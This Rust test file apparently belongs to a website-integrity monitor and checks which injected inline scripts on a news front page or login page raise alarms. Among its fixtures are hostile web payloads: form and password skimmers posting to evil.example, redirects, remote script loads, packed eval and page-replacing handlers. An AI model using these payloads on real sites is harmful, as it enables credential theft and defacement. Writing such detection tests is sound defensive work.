//! Inline scripts of a shape that was never on the page.

use crate::common::{Watch, login, swap, tail, top};
use crate::front_page;
use crate::table::Say::{Alarm, NoAlarm, Normal, Suspect};
use crate::table::hold;
use frontwatch_core::watch::WatchKind;

#[test]
fn a_script_that_does_harm_alarms() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![
            (
                "the document rewritten",
                tail("<script>document.documentElement.innerHTML=atob('PGgxPg==')</script>"),
                Alarm("script.replaces"),
            ),
            (
                "a packed script",
                tail("<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>"),
                Alarm("script.packed"),
            ),
            (
                "a script that reads fields",
                tail(
                    "<script>setInterval(function(){var inputs=document.querySelectorAll('input, select');var x=new XMLHttpRequest();x.open('POST','//evil.example/c');x.send(inputs[0].value)},900)</script>",
                ),
                Alarm("script.reads"),
            ),
            (
                "a script that sends readers away",
                tail("<script>if(!document.cookie){window.location.href='https://evil.example/win'}</script>"),
                Alarm("script.redirects"),
            ),
            (
                "code in an event handler",
                top("<img src=x onerror=\"document.documentElement.innerHTML=atob('PGgxPg==')\">"),
                Alarm("script.replaces"),
            ),
            (
                "a script loaded from code",
                tail("<script>import('https://evil.example/m.js')</script>"),
                Alarm("script.new"),
            ),
            (
                "a script carried along",
                tail(
                    "<script src=\"data:text/javascript;base64,ZG9jdW1lbnQuYm9keS5pbm5lckhUTUw9JzxoMT54PC9oMT4n\"></script>",
                ),
                Alarm("script.replaces"),
            ),
            (
                "a known script with a stranger in it",
                swap("ga('create'", "var s=document.createElement('script');s.src='//evil.example/g.js';ga('create'"),
                Alarm("script.new"),
            ),
            (
                "a handler that runs by itself",
                tail("<details open ontoggle=\"eval(top.name)\"></details>"),
                Alarm("script.new"),
            ),
            (
                "a script that hides the page",
                tail("<script>document.body.style.display='none'</script>"),
                Alarm("script.rewrites"),
            ),
            (
                "a script that rewrites the headlines",
                tail("<script>document.querySelectorAll('h2').forEach(function(e){e.textContent='Remember'})</script>"),
                Alarm("script.rewrites"),
            ),
            (
                "a script that stays",
                tail("<script>navigator.serviceWorker.register('/uploads/w.js')</script>"),
                Suspect("script.stays"),
            ),
        ],
    );
}

#[test]
fn a_script_that_serves_the_page_does_not() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![
            (
                "stories in a script as data",
                tail(
                    "<script type=\"application/json\" id=\"state\">{\"stories\":[{\"title\":\"Bank hacked by a gang\",\"src\":\"https://agency.example/p.jpg\"}]}</script>",
                ),
                Normal,
            ),
            (
                "structured data",
                tail(
                    "<script type=\"application/ld+json\">{\"@type\":\"NewsMediaOrganization\",\"name\":\"Outlet Daily\",\"url\":\"https://outlet.example/\"}</script>",
                ),
                Normal,
            ),
            ("the known script with another token", swap("token:'9a7'", "token:'ffff', segment:'weekend'"), Normal),
            (
                "a call of a known company",
                tail(
                    "<script>window._taboola=window._taboola||[];_taboola.push({mode:'thumbnails',container:'t1'})</script>",
                ),
                Normal,
            ),
            (
                "the menu's own script",
                tail(
                    "<script>document.querySelector('.burger')&&document.querySelector('.burger').addEventListener('click',function(){document.querySelector('.menu').classList.toggle('open')})</script>",
                ),
                Normal,
            ),
            (
                "a countdown to the election",
                tail(
                    "<script>setInterval(function(){var left=Date.parse('2026-03-01')-Date.now();document.getElementById('countdown').textContent=Math.floor(left/864e5)+' days'},1000)</script>",
                ),
                Normal,
            ),
            ("a button for printing", top("<button onclick=\"window.print()\">Print</button>"), NoAlarm),
            (
                "results fetched from the outlet's own host",
                tail(
                    "<script>fetch('/api/results').then(function(r){return r.json()}).then(function(d){document.getElementById('results').textContent=d.counted})</script>",
                ),
                NoAlarm,
            ),
            (
                "a reader of an old address led on within the outlet",
                tail("<script>if(window.location.hash=='#mobile'){window.location.href='/m/'}</script>"),
                NoAlarm,
            ),
        ],
    );
}

#[test]
fn a_login_pages_new_script_is_looked_at_closely() {
    let watch = Watch::learned(WatchKind::Admin, login, 4);
    hold(
        &watch,
        &login(4),
        vec![
            (
                "a script that reads the password",
                tail(
                    "<script>document.forms[0].onsubmit=function(){var x=new XMLHttpRequest();x.open('POST','//evil.example/k');x.send(document.querySelector('input[type=password]').value)}</script>",
                ),
                Alarm("script.reads"),
            ),
            (
                "a script that puts the cursor into the first field",
                tail("<script>document.getElementsByName('user')[0].focus()</script>"),
                Normal,
            ),
        ],
    );
}
